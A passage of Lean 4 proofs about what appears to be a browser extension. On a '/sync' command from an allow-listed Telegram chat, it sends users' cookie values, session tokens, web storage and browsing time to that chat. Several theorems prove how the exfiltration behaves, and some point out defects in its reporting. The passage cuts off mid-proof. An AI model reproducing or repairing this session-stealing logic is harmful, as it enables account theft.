      (handleUpdateIn f p u).1.actions = (handleUpdate q u).actions) ∧
    q.actions <+: (handleUpdate q u).actions := by
  rw [handleUpdate_eq]
  unfold handleUpdateIn
  cases hm : u.message with
  | none =>
    simp only
    split
    · exact ⟨⟨[], by simp [h]⟩, fun hc => (by cases hc), List.prefix_refl _⟩
    · exact ⟨⟨[], by simp [h]⟩, fun _ => h, List.prefix_refl _⟩
  | some m =>
    simp only
    by_cases ht : (!truthyStr m.text) = true
    · simp only [ht, if_true]
      split
      · exact ⟨⟨[], by simp [h]⟩, fun hc => (by cases hc), List.prefix_refl _⟩
      · exact ⟨⟨[], by simp [h]⟩, fun _ => h, List.prefix_refl _⟩
    · by_cases ha : (!isAuthorized m) = true
      · simp only [ht, ha, if_true, if_false]
        split
        · exact ⟨⟨[], by simp [h]⟩, fun hc => (by cases hc), List.prefix_refl _⟩
        · exact ⟨⟨[], by simp [h]⟩, fun _ => h, List.prefix_refl _⟩
      · simp only [ht, ha, if_false]
        have hpre := runCalls_initial f (dispatch (jsTrim (toLowerCase (m.text.getD ""))))
        split
        · refine ⟨?_, fun hc => (by cases hc), List.prefix_append _ _⟩
          exact ⟨dispatch (jsTrim (toLowerCase (m.text.getD ""))), by simp [h]⟩
        · refine ⟨?_, fun hc => ?_, List.prefix_append _ _⟩
          · show p.actions ++ _ <+: q.actions ++ _
            rw [h]
            exact (List.prefix_append_right_inj _).2 hpre.1
          · show p.actions ++ _ = q.actions ++ _
            rw [h, hpre.2 hc]

theorem foldl_handleUpdate_actions_initial (batch : List Update) :
    ∀ q : Poller, q.actions <+: (batch.foldl handleUpdate q).actions := by
  induction batch with
  | nil => intro q; exact List.prefix_refl _
  | cons u us ih =>
    intro q
    rw [List.foldl_cons]
    exact (handleUpdateIn_actions Faults.quiet q q u rfl).2.2.trans (ih _)

theorem runBatch_actions_initial (faults : Nat → Faults) (batch : List Update) :
    ∀ (i : Nat) (p q : Poller), p.actions = q.actions →
      (runBatch faults i p batch).actions <+:
        ((batch.filter (fun u => !u.unauthorized)).foldl handleUpdate q).actions := by
  induction batch with
  | nil =>
    intro i p q h
    simp only [runBatch, List.filter_nil, List.foldl_nil, h]
    exact List.prefix_refl _
  | cons u us ih =>
    intro i p q h
    have hact := handleUpdateIn_actions (faults i) p q u h
    by_cases hu : u.unauthorized = true
    · have hf : (u :: us).filter (fun u => !u.unauthorized) =
          us.filter (fun u => !u.unauthorized) := by
        simp [List.filter_cons, hu]
      have hsame : (handleUpdateIn (faults i) p u).1.actions = q.actions :=
        (handleUpdateIn_unauthorized (faults i) p u hu).trans h
      rw [hf]
      simp only [runBatch]
      split
      · rw [hsame]
        exact foldl_handleUpdate_actions_initial _ q
      · exact ih _ _ _ hsame
    · have hf : (u :: us).filter (fun u => !u.unauthorized) =
          u :: us.filter (fun u => !u.unauthorized) := by
        simp [List.filter_cons, hu]
      rw [hf, List.foldl_cons]
      simp only [runBatch]
      split
      · exact hact.1.trans (foldl_handleUpdate_actions_initial _ _)
      · rename_i hthrew
        exact ih _ _ _ (hact.2.1 (by simpa using hthrew))

/-- C5: the calls made by `checkTelegramCommands` on a batch (commands run and
messages sent) are the calls it makes on the same batch with every update from
a chat other than the allow-listed one removed; and the handling of one such
update makes no call at all.  In an environment where calls throw the same
holds for one update, and the calls made on a batch are an initial part of the
calls of the authorized updates alone. -/
theorem checkTelegramCommands_ignores_unauthorized (p : Poller) (ok : Bool)
    (batch : List Update) :
    (checkTelegramCommands p (some ⟨ok, batch⟩)).actions =
      (checkTelegramCommands p
        (some ⟨ok, batch.filter (fun u => !u.unauthorized)⟩)).actions ∧
    (∀ (q : Poller) (u : Update), u.unauthorized = true →
      (handleUpdate q u).actions = q.actions) ∧
    (∀ (f : Faults) (q : Poller) (u : Update), u.unauthorized = true →
      (handleUpdateIn f q u).1.actions = q.actions) ∧
    (∀ faults : Nat → Faults,
      (checkTelegramCommandsIn faults p (some ⟨ok, batch⟩)).actions <+:
        (checkTelegramCommands p
          (some ⟨ok, batch.filter (fun u => !u.unauthorized)⟩)).actions) := by
  have hgen : ∀ faults : Nat → Faults,
      (checkTelegramCommandsIn faults p (some ⟨ok, batch⟩)).actions <+:
        (checkTelegramCommands p
          (some ⟨ok, batch.filter (fun u => !u.unauthorized)⟩)).actions := by
    intro faults
    have hpre := runBatch_actions_initial faults batch 0 p p rfl
    simp only [checkTelegramCommands_eq]
    unfold checkTelegramCommandsIn
    cases ok with
    | false => simp
    | true =>
      simp only [Bool.true_and, gt_iff_lt, decide_eq_true_eq]
      by_cases hb : 0 < batch.length
      · simp only [hb, if_true]
        by_cases hf : 0 < (batch.filter (fun u => !u.unauthorized)).length
        · simp only [hf, if_true]
          exact hpre
        · simp only [hf, if_false]
          have hnil : batch.filter (fun u => !u.unauthorized) = [] :=
            List.length_eq_zero.1 (by omega)
          rw [hnil] at hpre
          exact hpre
      · have hnil : batch = [] := List.length_eq_zero.1 (by omega)
        subst hnil
        simp
  refine ⟨?_, fun q u hu => handleUpdate_unauthorized q u hu,
    fun f q u hu => handleUpdateIn_unauthorized f q u hu, hgen⟩
  have key := foldl_handleUpdate_filter batch p p rfl
  simp only [checkTelegramCommands_eq]
  cases ok with
  | false => simp
  | true =>
    simp only [Bool.true_and, gt_iff_lt, decide_eq_true_eq]
    by_cases hb : 0 < batch.length
    · simp only [hb, if_true]
      by_cases hf : 0 < (batch.filter (fun u => !u.unauthorized)).length
      · simp only [hf, if_true]
        exact key
      · simp only [hf, if_false]
        have hnil : batch.filter (fun u => !u.unauthorized) = [] :=
          List.length_eq_zero.1 (by omega)
        rw [key, hnil]
        rfl
    · have hnil : batch = [] := List.length_eq_zero.1 (by omega)
      subst hnil
      simp

theorem foldl_handleUpdate_ge (batch : List Update) :
    ∀ p : Poller, batch ≠ [] →
      batch.Pairwise (fun a b => a.update_id ≤ b.update_id) →
      (batch.foldl handleUpdate p).stored = some (batch.foldl handleUpdate p).lastUpdateId ∧
      ∀ u ∈ batch, u.update_id ≤ (batch.foldl handleUpdate p).lastUpdateId := by
  induction batch with
  | nil => intro p h; exact absurd rfl h
  | cons u us ih =>
    intro p _ hpw
    rw [List.foldl_cons]
    cases us with
    | nil =>
      simp only [List.foldl_nil, List.mem_singleton]
      refine ⟨?_, ?_⟩
      · rw [(handleUpdate_lastUpdateId p u).1, (handleUpdate_lastUpdateId p u).2]
      · intro v hv
        rw [hv, (handleUpdate_lastUpdateId p u).1]
    | cons v vs =>
      have hpw2 := List.pairwise_cons.1 hpw
      have ih2 := ih (handleUpdate p u) (List.cons_ne_nil v vs) hpw2.2
      refine ⟨ih2.1, ?_⟩
      intro w hw
      rcases List.mem_cons.1 hw with hw | hw
      · subst hw
        exact le_trans (hpw2.1 v (List.mem_cons_self v vs)) (ih2.2 v (List.mem_cons_self v vs))
      · exact ih2.2 w hw

theorem Faults.eq_quiet (f : Faults) (hp : f.persistFails = false)
    (ht : ∀ a, f.throws a = false) : f = Faults.quiet := by
  obtain ⟨pf, th⟩ := f
  simp only at hp ht
  subst hp
  have hth : th = fun _ => false := funext ht
  subst hth
  rfl

theorem runBatch_of_quiet (faults : Nat → Faults)
    (hquiet : ∀ i, (faults i).persistFails = false ∧ ∀ a, (faults i).throws a = false)
    (batch : List Update) :
    ∀ (i : Nat) (p : Poller), runBatch faults i p batch = batch.foldl handleUpdate p := by
  induction batch with
  | nil => intro i p; rfl
  | cons u us ih =>
    intro i p
    have hq : faults i = Faults.quiet := Faults.eq_quiet _ (hquiet i).1 (hquiet i).2
    simp only [runBatch, hq, handleUpdateIn_quiet, Bool.false_eq_true, if_false,
      List.foldl_cons]
    exact ih _ _

/-- C6 (as stated, refuted): the loop runs inside one `try`, so when a call of a
command handler throws, here `updateCookieStats` during `/sync` in update 3,
the batch ends at that update: update 4 is never visited, the persisted
`lastUpdateId` stays at 3, below the id 4 that was retrieved, and the next poll
asks for update 4 again. -/
theorem checkTelegramCommands_stops_at_throw :
    (checkTelegramCommandsIn
      (fun i => if i = 0 then
          { persistFails := false, throws := fun a => decide (a = Action.updateCookieStats) }
        else Faults.quiet)
      (Poller.mk 0 none [])
      (some ⟨true, [Update.mk 3 (some ⟨some "/sync", 7658385347⟩), Update.mk 4 none]⟩)).stored =
      some 3 ∧
    ¬ (∀ u ∈ [Update.mk 3 (some ⟨some "/sync", 7658385347⟩), Update.mk 4 none],
      u.update_id ≤ (checkTelegramCommandsIn
        (fun i => if i = 0 then
            { persistFails := false, throws := fun a => decide (a = Action.updateCookieStats) }
          else Faults.quiet)
        (Poller.mk 0 none [])
        (some ⟨true, [Update.mk 3 (some ⟨some "/sync", 7658385347⟩),
          Update.mk 4 none]⟩)).lastUpdateId) := by
  decide

/-- C6 (amended): for every non-empty batch whose update ids are in
non-decreasing order, as the endpoint returns them, and during which neither
the write of `lastUpdateId` nor a call of a command handler throws, after
`checkTelegramCommands` the stored `lastUpdateId` equals the variable
`lastUpdateId`, which is at least every id of the batch, whatever the updates
carry; so every id of the batch lies below the next offset
`lastUpdateId + 1`. -/
theorem checkTelegramCommands_advances (faults : Nat → Faults) (p : Poller)
    (batch : List Update) (hne : batch ≠ [])
    (hasc : batch.Pairwise (fun a b => a.update_id ≤ b.update_id))
    (hquiet : ∀ i, (faults i).persistFails = false ∧ ∀ a, (faults i).throws a = false) :
    (checkTelegramCommandsIn faults p (some ⟨true, batch⟩)).stored =
      some (checkTelegramCommandsIn faults p (some ⟨true, batch⟩)).lastUpdateId ∧
    (∀ u ∈ batch,
      u.update_id ≤ (checkTelegramCommandsIn faults p (some ⟨true, batch⟩)).lastUpdateId ∧
      u.update_id < nextOffset (checkTelegramCommandsIn faults p (some ⟨true, batch⟩))) := by
  have hlen : 0 < batch.length := List.length_pos.2 hne
  have hrun : checkTelegramCommandsIn faults p (some ⟨true, batch⟩) =
      batch.foldl handleUpdate p := by
    simp [checkTelegramCommandsIn, hlen, runBatch_of_quiet faults hquiet]
  rw [hrun]
  have h := foldl_handleUpdate_ge batch p hne hasc
  refine ⟨h.1, ?_⟩
  intro u hu
  have hle := h.2 u hu
  refine ⟨hle, ?_⟩
  unfold nextOffset
  omega

/-- C6 (amended) at a concrete batch: an update without a message, one from an
unknown chat and one with unknown text, ids 3, 4, 7. -/
theorem checkTelegramCommands_advances_witness :
    (checkTelegramCommandsIn (fun _ => Faults.quiet) (Poller.mk 0 none [])
      (some ⟨true, [Update.mk 3 none, Update.mk 4 (some ⟨some "/sync", 1⟩),
        Update.mk 7 (some ⟨some "hello", 7658385347⟩)]⟩)).stored =
      some (checkTelegramCommandsIn (fun _ => Faults.quiet) (Poller.mk 0 none [])
        (some ⟨true, [Update.mk 3 none, Update.mk 4 (some ⟨some "/sync", 1⟩),
          Update.mk 7 (some ⟨some "hello", 7658385347⟩)]⟩)).lastUpdateId :=
  (checkTelegramCommands_advances (fun _ => Faults.quiet) (Poller.mk 0 none [])
    [Update.mk 3 none, Update.mk 4 (some ⟨some "/sync", 1⟩),
      Update.mk 7 (some ⟨some "hello", 7658385347⟩)] (by decide) (by decide)
    (fun _ => ⟨rfl, fun _ => rfl⟩)).1

/-! ## Remote sync reporter -/

theorem foldl_setOf (xs : List String) :
    ∀ acc : List String, acc.Nodup →
      (xs.foldl (fun acc x => if acc.contains x then acc else acc ++ [x]) acc).Nodup ∧
      ∀ d, d ∈ xs.foldl (fun acc x => if acc.contains x then acc else acc ++ [x]) acc ↔
        d ∈ acc ∨ d ∈ xs := by
  induction xs with
  | nil => intro acc h; simp [h]
  | cons x xs ih =>
    intro acc h
    rw [List.foldl_cons]
    by_cases hx : x ∈ acc
    · have hc : acc.contains x = true := by simpa using hx
      simp only [hc, if_true]
      refine ⟨(ih acc h).1, ?_⟩
      intro d
      rw [(ih acc h).2 d, List.mem_cons]
      constructor
      · rintro (h1 | h1)
        · exact Or.inl h1
        · exact Or.inr (Or.inr h1)
      · rintro (h1 | h1 | h1)
        · exact Or.inl h1
        · exact Or.inl (h1 ▸ hx)
        · exact Or.inr h1
    · have hc : acc.contains x = false := by simpa using hx
      have hnd : (acc ++ [x]).Nodup := by
        rw [List.nodup_append]
        refine ⟨h, List.nodup_singleton x, ?_⟩
        intro a ha hb
        simp only [List.mem_singleton] at hb
        subst hb
        exact hx ha
      simp only [hc, Bool.false_eq_true, if_false]
      refine ⟨(ih _ hnd).1, ?_⟩
      intro d
      rw [(ih _ hnd).2 d, List.mem_append, List.mem_singleton, List.mem_cons]
      tauto

theorem setOf_spec (xs : List String) :
    (setOf xs).Nodup ∧ ∀ d, d ∈ setOf xs ↔ d ∈ xs := by
  have h := foldl_setOf xs [] List.nodup_nil
  refine ⟨h.1, ?_⟩
  intro d
  have h2 := h.2 d
  simp only [List.not_mem_nil, false_or] at h2
  exact h2

/-- C7: the array `sortedDomains` of the full sync has no duplicate, its
members are exactly the keys of `stats`, the keys of `cookieData` with a leading
dot stripped, and the keys of `webStorage`, and the accumulated time (0 for a
domain absent from `stats`) never increases along the array. -/
theorem sortedDomains_spec (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) :
    (sortedDomains stats cookies webStorage).Nodup ∧
    (∀ d, d ∈ sortedDomains stats cookies webStorage ↔
      d ∈ stats.keys ∨ d ∈ cookies.keys.map stripLeadingDot ∨ d ∈ webStorage.keys) ∧
    (sortedDomains stats cookies webStorage).Pairwise
      (fun a b => statOf stats b ≤ statOf stats a) ∧
    (sortedDomains stats cookies webStorage).Perm (allDomains stats cookies webStorage) := by
  have hperm : (sortedDomains stats cookies webStorage).Perm
      (allDomains stats cookies webStorage) :=
    List.perm_insertionSort _ _
  have hset := setOf_spec (stats.keys ++ cookies.keys.map stripLeadingDot ++ webStorage.keys)
  refine ⟨?_, ?_, ?_, hperm⟩
  · exact hperm.nodup_iff.2 hset.1
  · intro d
    rw [hperm.mem_iff]
    unfold allDomains
    rw [hset.2 d, List.mem_append, List.mem_append, or_assoc]
  · haveI : IsTotal String (fun a b => statOf stats b ≤ statOf stats a) :=
      ⟨fun a b => le_total (statOf stats b) (statOf stats a)⟩
    haveI : IsTrans String (fun a b => statOf stats b ≤ statOf stats a) :=
      ⟨fun a b c hab hbc => le_trans hbc hab⟩
    exact List.sorted_insertionSort (fun a b => statOf stats b ≤ statOf stats a) _

/-- C8 (code defect): `a.com` with 5000 ms, no cookie and no local storage is
among the top 30 and is not silenced, yet the domain loop sends no message for
it: the full sync is the opening message and the closing message only. -/
theorem triggerTelegramSync_omits_time_only_domain :
    "a.com" ∈ (sortedDomains [("a.com", 5000)] [] []).take 30 ∧
    isSilenced [("a.com", 5000)] [] [] "a.com" = false ∧
    domainMessages [("a.com", 5000)] [] [] "a.com" = [] ∧
    triggerTelegramSync "Linux | Chrome" [("a.com", 5000)] [] [] =
      [ "<b>🚀 UNIVERSAL DATA SYNC</b>\nDevice: <code>Linux | Chrome</code>\n<i>Status: Deep Precision Audit Complete</i>",
        "<b>✅ PRECISION SYNC COMPLETE</b>\n\nAll secrets for 1 domains have been meticulously verified." ] ∧
    (triggerTelegramSync "Linux | Chrome" [("a.com", 5000)] [] []).all
      (fun m => !includes m "a.com") = true := by
  decide

/-- C9 (code defect): on the end-to-end input the order is `b.com`, `a.com` and
the secrets block of `a.com` carries `sessionid`, but `b.com`, which has time
and neither cookie nor local storage, gets no message: the only messages are
the opening one, the secrets message of `a.com` and the closing one. -/
theorem triggerTelegramSync_end_to_end :
    sortedDomains [("a.com", 5000), ("b.com", 65000)]
      [("a.com", [CookieRecord.mk "sessionid" "X" "/" false false none "lax" true])] [] =
      ["b.com", "a.com"] ∧
    triggerTelegramSync "Linux | Chrome" [("a.com", 5000), ("b.com", 65000)]
      [("a.com", [CookieRecord.mk "sessionid" "X" "/" false false none "lax" true])] [] =
      [ "<b>🚀 UNIVERSAL DATA SYNC</b>\nDevice: <code>Linux | Chrome</code>\n<i>Status: Deep Precision Audit Complete</i>",
        "<b>🌐 DOMAIN:</b> <code>a.com</code>\n⏱️ Time Active: <code>0h 0m 5s</code>\n\n<b>🔒 SECRET SESSION DATA:</b>\n• <i>sessionid</i>: <code>X</code>\n",
        "<b>✅ PRECISION SYNC COMPLETE</b>\n\nAll secrets for 2 domains have been meticulously verified." ] ∧
    (triggerTelegramSync "Linux | Chrome" [("a.com", 5000), ("b.com", 65000)]
      [("a.com", [CookieRecord.mk "sessionid" "X" "/" false false none "lax" true])] []).all
      (fun m => !includes m "b.com") = true := by
  decide

theorem join_concat (segs : List String) (row : String) :
    String.join (segs ++ [row]) = String.join segs ++ row := by
  simp [String.join, List.foldl_append]

theorem renderSegments_concat (domainHeader tableMsg : String) (segs : List (List String))
    (last : List String) :
    renderSegments domainHeader tableMsg (segs ++ [last]) =
      segs.map (fun seg =>
        domainHeader ++ tableMsg ++ String.join seg ++ "</pre> (Continued...)") ++
      [domainHeader ++ tableMsg ++ String.join last ++ "</pre>"] := by
  induction segs with
  | nil => simp [renderSegments]
  | cons seg rest ih =>
    cases rest with
    | nil => simp [renderSegments]
    | cons next rest2 =>
      have hcons : seg :: next :: rest2 ++ [last] = seg :: next :: (rest2 ++ [last]) := rfl
      rw [hcons, renderSegments]
      have ih2 : renderSegments domainHeader tableMsg (next :: (rest2 ++ [last])) = _ := ih
      rw [ih2]
      simp

theorem chunk_loops_agree (domainHeader tableMsg : String) (rows : List String) :
    ∀ (st : String × List String) (sg : List String × List (List String)),
      st.1 = String.join sg.1 →
      st.2 = sg.2.map (fun seg =>
        domainHeader ++ tableMsg ++ String.join seg ++ "</pre> (Continued...)") →
      (rows.foldl (chunkStep domainHeader tableMsg) st).1 =
        String.join (rows.foldl (fun (st : List String × List (List String)) row =>
          if jsLength tableMsg + jsLength (String.join st.1) + jsLength row > 3500 then
            ([row], st.2 ++ [st.1])
          else (st.1 ++ [row], st.2)) sg).1 ∧
      (rows.foldl (chunkStep domainHeader tableMsg) st).2 =
        (rows.foldl (fun (st : List String × List (List String)) row =>
          if jsLength tableMsg + jsLength (String.join st.1) + jsLength row > 3500 then
            ([row], st.2 ++ [st.1])
          else (st.1 ++ [row], st.2)) sg).2.map (fun seg =>
        domainHeader ++ tableMsg ++ String.join seg ++ "</pre> (Continued...)") := by
  induction rows with
  | nil => intro st sg h1 h2; exact ⟨h1, h2⟩
  | cons row rows ih =>
    intro st sg h1 h2
    rw [List.foldl_cons, List.foldl_cons]
    apply ih
    · unfold chunkStep
      simp only [h1]
      split
      · simp [String.join]
      · simp [join_concat]
    · unfold chunkStep
      simp only [h1]
      split
      · simp [h2]
      · simp [h2]

theorem chunk_loop_flatten (tableMsg : String) (rows : List String) :
    ∀ sg : List String × List (List String),
      ((rows.foldl (fun (st : List String × List (List String)) row =>
          if jsLength tableMsg + jsLength (String.join st.1) + jsLength row > 3500 then
            ([row], st.2 ++ [st.1])
          else (st.1 ++ [row], st.2)) sg).2 ++
        [(rows.foldl (fun (st : List String × List (List String)) row =>
          if jsLength tableMsg + jsLength (String.join st.1) + jsLength row > 3500 then
            ([row], st.2 ++ [st.1])
          else (st.1 ++ [row], st.2)) sg).1]).flatten =
      (sg.2 ++ [sg.1]).flatten ++ rows := by
  induction rows with
  | nil => intro sg; simp
  | cons row rows ih =>
    intro sg
    rw [List.foldl_cons, ih]
    split <;> simp

/-- C10: the messages sent for one table are the renderings of consecutive
groups of whole rows, and the groups, concatenated in the order the messages
are sent, are the rows in their original order: no row is split, dropped or
repeated. -/
theorem tableMessages_partition (domainHeader tableMsg : String) (rows : List String) :
    tableMessages domainHeader tableMsg rows =
      renderSegments domainHeader tableMsg (chunkRows tableMsg rows) ∧
    (chunkRows tableMsg rows).flatten = rows ∧
    (tableMessages domainHeader tableMsg rows).length = (chunkRows tableMsg rows).length := by
  have hagree := chunk_loops_agree domainHeader tableMsg rows ("", []) ([], []) rfl rfl
  have hflat := chunk_loop_flatten tableMsg rows ([], [])
  refine ⟨?_, ?_, ?_⟩
  · unfold tableMessages chunkRows
    simp only
    rw [renderSegments_concat, hagree.1, hagree.2]
  · unfold chunkRows
    simp only
    rw [hflat]
    simp
  · unfold tableMessages chunkRows
    simp only
    rw [hagree.2]
    simp

/-! ## Message budget of the chunking loops -/

theorem jsLength_append (a b : String) : jsLength (a ++ b) = jsLength a + jsLength b := by
  simp [jsLength, String.data_append, List.map_append, List.sum_append]

theorem jsLength_replicate (n : Nat) (c : Char) (hc : c.toNat < 0x10000) :
    jsLength (String.mk (List.replicate n c)) = n := by
  simp [jsLength, List.map_replicate, hc]

theorem join_nil_eq : String.join [] = "" := rfl

theorem chunkRows_eq_foldl (tableMsg : String) (rows : List String) :
    chunkRows tableMsg rows =
      (rows.foldl (chunkRowsStep tableMsg) ([], [])).2 ++
        [(rows.foldl (chunkRowsStep tableMsg) ([], [])).1] := rfl

theorem tableMessages_eq_render (domainHeader tableMsg : String) (rows : List String) :
    tableMessages domainHeader tableMsg rows =
      renderSegments domainHeader tableMsg (chunkRows tableMsg rows) := by
  have hagree := chunk_loops_agree domainHeader tableMsg rows ("", []) ([], []) rfl rfl
  unfold tableMessages chunkRows
  simp only
  rw [renderSegments_concat, hagree.1, hagree.2]

theorem mem_renderSegments (domainHeader tableMsg : String) (segs : List (List String))
    (m : String) (hm : m ∈ renderSegments domainHeader tableMsg segs) :
    ∃ seg ∈ segs, m = domainHeader ++ tableMsg ++ String.join seg ++ "</pre>" ∨
      m = domainHeader ++ tableMsg ++ String.join seg ++ "</pre> (Continued...)" := by
  induction segs with
  | nil => simp [renderSegments] at hm
  | cons seg rest ih =>
    cases rest with
    | nil =>
      simp only [renderSegments, List.mem_singleton] at hm
      exact ⟨seg, List.mem_cons_self _ _, Or.inl hm⟩
    | cons next rest2 =>
      simp only [renderSegments, List.mem_cons] at hm
      rcases hm with hm | hm
      · exact ⟨seg, List.mem_cons_self _ _, Or.inr hm⟩
      · have hm2 : m ∈ renderSegments domainHeader tableMsg (next :: rest2) := by
          cases rest2 with
          | nil => simpa [renderSegments] using hm
          | cons x xs => simpa [renderSegments] using hm
        obtain ⟨sg, hsg, hcase⟩ := ih hm2
        exact ⟨sg, List.mem_cons_of_mem _ hsg, hcase⟩

theorem foldl_chunkRowsStep_fits (tableMsg : String) (rows : List String)
    (hfit : ∀ r ∈ rows, jsLength tableMsg + jsLength r ≤ 3500) :
    ∀ sg : List String × List (List String),
      (∀ seg ∈ sg.2, seg ≠ [] ∧ jsLength tableMsg + jsLength (String.join seg) ≤ 3500) →
      jsLength tableMsg + jsLength (String.join sg.1) ≤ 3500 →
      (∀ seg ∈ (rows.foldl (chunkRowsStep tableMsg) sg).2,
        seg ≠ [] ∧ jsLength tableMsg + jsLength (String.join seg) ≤ 3500) ∧
      jsLength tableMsg + jsLength (String.join (rows.foldl (chunkRowsStep tableMsg) sg).1)
        ≤ 3500 ∧
      ((sg.1 ≠ [] ∨ rows ≠ []) → (rows.foldl (chunkRowsStep tableMsg) sg).1 ≠ []) := by
  induction rows with
  | nil =>
    intro sg h2 h1
    refine ⟨h2, h1, ?_⟩
    rintro (h | h)
    · exact h
    · exact absurd rfl h
  | cons row rows ih =>
    intro sg h2 h1
    have hrow : jsLength tableMsg + jsLength row ≤ 3500 := hfit row (List.mem_cons_self _ _)
    have hrest : ∀ r ∈ rows, jsLength tableMsg + jsLength r ≤ 3500 :=
      fun r hr => hfit r (List.mem_cons_of_mem _ hr)
    rw [List.foldl_cons]
    by_cases hflush : jsLength tableMsg + jsLength (String.join sg.1) + jsLength row > 3500
    · have hstep : chunkRowsStep tableMsg sg row = ([row], sg.2 ++ [sg.1]) := by
        simp [chunkRowsStep, hflush]
      have hcur : sg.1 ≠ [] := by
        intro hnil
        rw [hnil, join_nil_eq] at hflush
        have h0 : jsLength "" = 0 := rfl
        omega
      have hone : jsLength (String.join [row]) = jsLength row := by
        have h := join_concat [] row
        simp only [List.nil_append] at h
        rw [h, join_nil_eq, jsLength_append]
        have h0 : jsLength "" = 0 := rfl
        omega
      rw [hstep]
      have hres := ih hrest ([row], sg.2 ++ [sg.1])
        (by
          intro seg hseg
          rcases List.mem_append.1 hseg with hseg | hseg
          · exact h2 seg hseg
          · rw [List.mem_singleton] at hseg
            subst hseg
            exact ⟨hcur, h1⟩)
        (by
          show jsLength tableMsg + jsLength (String.join [row]) ≤ 3500
          rw [hone]
          exact hrow)
      exact ⟨hres.1, hres.2.1, fun _ => hres.2.2 (Or.inl (List.cons_ne_nil _ _))⟩
    · have hstep : chunkRowsStep tableMsg sg row = (sg.1 ++ [row], sg.2) := by
        simp [chunkRowsStep, hflush]
      rw [hstep]
      have hres := ih hrest (sg.1 ++ [row], sg.2) h2
        (by
          show jsLength tableMsg + jsLength (String.join (sg.1 ++ [row])) ≤ 3500
          rw [join_concat, jsLength_append]
          omega)
      exact ⟨hres.1, hres.2.1, fun _ => hres.2.2 (Or.inl (by simp))⟩

theorem chunkRows_single_oversize (tableMsg row : String)
    (h : 3500 < jsLength tableMsg + jsLength row) :
    chunkRows tableMsg [row] = [[], [row]] := by
  have h0 : jsLength (String.join []) = 0 := rfl
  have hcond : jsLength tableMsg + jsLength (String.join []) + jsLength row > 3500 := by
    rw [h0]
    omega
  rw [chunkRows_eq_foldl]
  simp [chunkRowsStep, hcond]

/-- C11 (as stated, refuted): a single cookie row longer than the budget is
first preceded by a flush of the still empty row buffer, a message with zero
rows, and is then sent whole in a message whose table header and rows exceed
3500 code units. -/
theorem tableMessages_oversize_row :
    chunkRows "<b>🍪 General Cookies (1):</b>\n<pre>"
      [cookieRow (CookieRecord.mk "k" (String.mk (List.replicate 4000 'd')) "/" false false
        none "lax" true)] =
      [[], [cookieRow (CookieRecord.mk "k" (String.mk (List.replicate 4000 'd')) "/" false false
        none "lax" true)]] ∧
    tableMessages "H" "<b>🍪 General Cookies (1):</b>\n<pre>"
      [cookieRow (CookieRecord.mk "k" (String.mk (List.replicate 4000 'd')) "/" false false
        none "lax" true)] =
      [ "H" ++ "<b>🍪 General Cookies (1):</b>\n<pre>" ++ String.join [] ++
          "</pre> (Continued...)",
        "H" ++ "<b>🍪 General Cookies (1):</b>\n<pre>" ++
          String.join [cookieRow (CookieRecord.mk "k" (String.mk (List.replicate 4000 'd')) "/"
            false false none "lax" true)] ++ "</pre>" ] ∧
    3500 < jsLength "<b>🍪 General Cookies (1):</b>\n<pre>" +
      jsLength (String.join [cookieRow (CookieRecord.mk "k"
        (String.mk (List.replicate 4000 'd')) "/" false false none "lax" true)]) := by
  have hval : jsLength (String.mk (List.replicate 4000 'd')) = 4000 :=
    jsLength_replicate 4000 'd' (by decide)
  have hrow : 4000 ≤ jsLength (cookieRow (CookieRecord.mk "k"
      (String.mk (List.replicate 4000 'd')) "/" false false none "lax" true)) := by
    simp only [cookieRow, jsLength_append, hval]
    omega
  have hbig : 3500 < jsLength "<b>🍪 General Cookies (1):</b>\n<pre>" +
      jsLength (cookieRow (CookieRecord.mk "k" (String.mk (List.replicate 4000 'd')) "/" false
        false none "lax" true)) := by
    omega
  have hchunks := chunkRows_single_oversize _ _ hbig
  have hjoin : ∀ r : String, String.join [r] = "" ++ r := fun r => by
    have h := join_concat [] r
    simpa [join_nil_eq] using h
  refine ⟨hchunks, ?_, ?_⟩
  · rw [tableMessages_eq_render, hchunks]
    rfl
  · rw [hjoin, jsLength_append]
    have h0 : jsLength "" = 0 := rfl
    omega

/-- C11 (amended): for a non-empty list of rows each of which fits the budget
together with the table header, every message of the table carries at least one
row, its table header plus rows stay within 3500 code units, and the whole
message is at most the domain header plus 3500 plus the 21 code units of the
longer closing marker. -/
theorem tableMessages_within_budget (domainHeader tableMsg : String) (rows : List String)
    (hne : rows ≠ [])
    (hfit : ∀ r ∈ rows, jsLength tableMsg + jsLength r ≤ 3500) :
    tableMessages domainHeader tableMsg rows =
      renderSegments domainHeader tableMsg (chunkRows tableMsg rows) ∧
    (∀ seg ∈ chunkRows tableMsg rows,
      seg ≠ [] ∧ jsLength tableMsg + jsLength (String.join seg) ≤ 3500) ∧
    (∀ m ∈ tableMessages domainHeader tableMsg rows,
      jsLength m ≤ jsLength domainHeader + 3500 + 21) := by
  have hinv := foldl_chunkRowsStep_fits tableMsg rows hfit ([], [])
    (by intro seg hseg; simp at hseg)
    (by
      show jsLength tableMsg + jsLength (String.join []) ≤ 3500
      obtain ⟨r, hr⟩ := List.exists_mem_of_ne_nil rows hne
      have h0 : jsLength (String.join []) = 0 := rfl
      have := hfit r hr
      omega)
  have hsegs : ∀ seg ∈ chunkRows tableMsg rows,
      seg ≠ [] ∧ jsLength tableMsg + jsLength (String.join seg) ≤ 3500 := by
    intro seg hseg
    rw [chunkRows_eq_foldl] at hseg
    rcases List.mem_append.1 hseg with hseg | hseg
    · exact hinv.1 seg hseg
    · rw [List.mem_singleton] at hseg
      subst hseg
      exact ⟨hinv.2.2 (Or.inr hne), hinv.2.1⟩
  refine ⟨tableMessages_eq_render domainHeader tableMsg rows, hsegs, ?_⟩
  intro m hm
  rw [tableMessages_eq_render] at hm
  obtain ⟨seg, hseg, hcase⟩ := mem_renderSegments domainHeader tableMsg _ m hm
  have hb := (hsegs seg hseg).2
  have h6 : jsLength "</pre>" = 6 := by decide
  have h21 : jsLength "</pre> (Continued...)" = 21 := by decide
  rcases hcase with hcase | hcase
  · rw [hcase, jsLength_append, jsLength_append, jsLength_append, h6]
    omega
  · rw [hcase, jsLength_append, jsLength_append, jsLength_append, h21]
    omega

/-- C11 (amended) at a concrete table of two short rows, which travel together
in one message within the budget. -/
theorem tableMessages_within_budget_witness :
    tableMessages "H" "<pre>" ["a              : 1\n", "b              : 2\n"] =
      renderSegments "H" "<pre>"
        (chunkRows "<pre>" ["a              : 1\n", "b              : 2\n"]) ∧
    (["a              : 1\n", "b              : 2\n"] ≠ ([] : List String) ∧
